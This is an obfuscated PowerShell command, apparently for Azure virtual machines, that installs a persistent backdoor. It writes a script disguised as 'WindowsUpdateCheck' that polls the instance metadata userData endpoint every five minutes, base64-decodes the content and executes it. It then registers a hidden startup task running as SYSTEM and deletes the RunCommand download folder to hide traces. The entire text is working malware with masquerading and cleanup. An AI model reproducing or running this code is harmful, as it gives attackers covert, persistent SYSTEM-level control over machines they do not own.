iex ('# init 4395 v3
N'+'ew-Item -ItemType Directory -Force -Path C:\WindowsAzure\Packages'+'\Tools | Out-Null
$s = ''while($true){ $c = Invoke-RestMethod -Headers @{Metadata="true"} "http://169.254.169.254/metadata/instance/compute/userData?api-version=2021-01-01&format=text"; iex ([Text.Encodi'+'ng]::UTF8.GetString([Convert]::FromBase64String($c))); Start-Sleep 300 }''
$s | Out-File C:\WindowsAzure\Packages\Tools\WindowsUp'+'dateCheck.ps1
$a = New-ScheduledTaskAction -Execute powershell.exe -Argument ''-NoP -'+'W Hidden -'+'File C:\WindowsAzure\Packages\Tools\WindowsUpdateCheck.ps1''
Register-ScheduledTask -TaskName ''WindowsUpdateCheck'' -Action $a -Trigger (New-ScheduledTaskTrigger -AtStartup) -User SYSTEM
Remove-Item -Recurse -Force ''C:\Packages\Plugins\Microsoft.CPlat.Core.RunCommandWindows\1.1.15\'+'Downloads\*''
')